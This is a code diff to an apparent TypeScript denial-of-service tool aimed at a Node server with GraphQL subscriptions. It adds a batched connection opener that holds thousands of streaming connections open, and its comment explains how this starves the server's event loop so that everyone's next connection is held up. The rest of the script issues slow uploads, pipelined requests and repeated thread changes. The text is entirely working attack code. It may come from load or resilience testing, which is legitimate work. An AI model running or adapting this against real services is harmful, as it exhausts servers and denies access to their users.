@@ -86,20 +86,36 @@ async function keepChanging({ url }: Attack, token: string): Promise<void> {
   while (isOn) await ask(`${url}/api/v1/threads`, token, { text: 'Hang' }).catch(() => sleep(100));
 }
 
+/**
+ * Fifty at a time, each until it has its first bytes. Node accepts one connection in each round of its event loop, whoever it is
+ * from, so thousands at once hold up everybody's next connection to any server of Node's: that is a flood for what is in front.
+ */
+async function openSteadily(url: string, requests: readonly string[]): Promise<void> {
+  for (let n = 0; n < requests.length && isOn; n += 50) {
+    const batch = requests.slice(n, n + 50).map((request) => open(url, request));
+    await Promise.all(
+      batch.map((socket) => new Promise((resolve) => socket.once('data', resolve).once('close', resolve))),
+    );
+  }
+}
+
 async function start(attack: Attack): Promise<void> {
   isOn = true;
   const { url, tokens, followers, streams } = attack;
   const [first = ''] = tokens;
-  const path = await hang(attack, first);
+  const path = attack.responses > 0 ? await hang(attack, first) : '';
   await uploadSlowly(attack, first).catch(() => undefined);
   const feed = {
     query: 'subscription { threadsChanged { __typename ... on ThreadUpserted { thread { id name state } } } }',
   };
   const follow = requestOf(first, ['POST', '/graphql'], feed, 'text/event-stream');
-  for (let n = 0; n < followers; n += 1) open(url, follow);
-  for (const token of tokens) for (let n = 0; n < streams; n += 1) open(url, requestOf(token, ['GET', path]));
-  pipeline(attack, first);
-  void keepChanging(attack, first);
+  const watching = tokens.map((token) => requestOf(token, ['GET', path]));
+  await openSteadily(url, [
+    ...Array.from({ length: followers }, () => follow),
+    ...watching.flatMap((request) => Array.from({ length: streams }, () => request)),
+  ]);
+  if (attack.pipelined > 0) pipeline(attack, first);
+  if (followers > 0) void keepChanging(attack, first);
   await sleep(1000);
 }
 
